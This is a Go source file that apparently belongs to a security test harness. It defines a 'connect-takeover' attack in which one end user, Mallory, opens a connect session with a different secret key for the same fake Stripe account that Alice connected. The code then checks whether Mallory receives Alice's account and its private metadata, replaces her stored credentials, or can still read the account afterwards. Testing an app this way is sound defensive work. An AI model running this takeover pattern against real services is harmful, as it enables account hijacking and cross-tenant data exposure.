package main

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
)

// takeoverAttacks returns the connect-session takeover.
func takeoverAttacks() []attack {
	return []attack{{name: "connect-takeover", run: takeover}}
}

// The two end users of the victim's app and their credentials, which the
// fake Stripe says reach the same Stripe account.
const (
	aliceSecret   = "sk_test_alicekey"
	mallorySecret = "sk_test_mallorykey"
	sharedAccount = "acct_shared"
)

// connected is the account a connect session's createAccount answers.
type connected struct {
	AlreadyExists bool
	Account       struct {
		ID, Identifier string
		DisplayName    *string
		Metadata       map[string]any
	}
}

// takeover has the victim's app open a connect session for Alice, who
// connects a Stripe account, and one for Mallory, who submits other
// credentials of the same Stripe account; it reports what Mallory's
// session got back, whose credentials the account then holds, and whether
// Mallory may read it afterwards.
func takeover(window context.Context, t *target) outcome {
	ctx := context.WithoutCancel(window)
	t.fake.Allow(aliceSecret, sharedAccount)
	t.fake.Allow(mallorySecret, sharedAccount)
	session := func(person string) (string, error) {
		var out struct{ CreateConnectSession struct{ SecretKey string } }
		err := t.must(ctx, t.victimAdmin.SecretKey, `mutation($p: String!) { createConnectSession(input: {personId: $p, sources: ["stripe"]}) { secretKey } }`,
			map[string]any{"p": person}, &out)
		return out.CreateConnectSession.SecretKey, err
	}
	// connect adds a Stripe account and returns what the answer holds,
	// and its errors.
	connect := func(secret, credential string, extra map[string]any) (connected, error) {
		in := map[string]any{"source": "stripe", "credentialType": "secret_key", "credentials": map[string]any{"secretKey": credential}}
		for k, v := range extra {
			in[k] = v
		}
		r, err := t.query(ctx, secret, `mutation($in: CreateAccountInput!) { createAccount(input: $in) {
			alreadyExists account { id identifier displayName metadata } } }`, map[string]any{"in": in})
		var out struct{ CreateAccount connected }
		_ = json.Unmarshal(r.Data, &out)
		if err == nil {
			err = r.Err()
		}
		return out.CreateAccount, err
	}
	alice, err := session("alice")
	if err != nil {
		return failed("creating Alice's connect session", err)
	}
	mallory, err := session("mallory")
	if err != nil {
		return failed("creating Mallory's connect session", err)
	}
	theirs, err := connect(alice, aliceSecret, map[string]any{"displayName": "Alice's shop", "metadata": map[string]any{"note": "alice-private"}})
	if err != nil {
		return failed("Alice connecting", err)
	}
	got, err := connect(mallory, mallorySecret, nil)
	var parts []string
	switch {
	case err != nil:
		parts = append(parts, "Mallory's createAccount answered "+err.Error())
	case got.Account.ID != theirs.Account.ID:
		parts = append(parts, fmt.Sprintf("Mallory's session got an account of its own (%s, alreadyExists %v)", got.Account.ID, got.AlreadyExists))
	default:
		var seen []string
		if got.Account.DisplayName != nil && *got.Account.DisplayName == "Alice's shop" {
			seen = append(seen, "displayName")
		}
		if got.Account.Metadata["note"] == "alice-private" {
			seen = append(seen, "metadata")
		}
		parts = append(parts, fmt.Sprintf("Mallory's session got Alice's account (alreadyExists %v) with its %s", got.AlreadyExists, orNothing(strings.Join(seen, ", "))))
	}
	var creds struct {
		RevealAccountCredentials struct{ Credentials map[string]any }
	}
	if err := t.must(ctx, t.victimAdmin.SecretKey, `mutation($id: ID!) { revealAccountCredentials(id: $id) { credentials } }`,
		map[string]any{"id": theirs.Account.ID}, &creds); err != nil {
		parts = append(parts, "revealing Alice's account's credentials failed: "+err.Error())
	} else {
		switch creds.RevealAccountCredentials.Credentials["secretKey"] {
		case mallorySecret:
			parts = append(parts, "Alice's account now holds Mallory's credentials")
		case aliceSecret:
			parts = append(parts, "Alice's account still holds Alice's credentials")
		default:
			parts = append(parts, "Alice's account holds other credentials")
		}
	}
	r, err := t.query(ctx, mallory, `query($id: ID!) { account(id: $id) { id displayName } }`, map[string]any{"id": theirs.Account.ID})
	readable := err == nil && r.Err() == nil && strings.Contains(string(r.Data), theirs.Account.ID)
	parts = append(parts, fmt.Sprintf("Mallory's session can read it afterwards: %v", readable))
	return outcome{
		summary: strings.Join(parts, "; "),
		details: []string{"two connect sessions of the victim's environment; the fake Stripe maps both secret keys to " + sharedAccount},
		figures: map[string]any{"sameAccount": got.Account.ID == theirs.Account.ID, "alreadyExists": got.AlreadyExists,
			"credentialsReplaced": creds.RevealAccountCredentials.Credentials["secretKey"] == mallorySecret, "readableAfter": readable},
	}
}
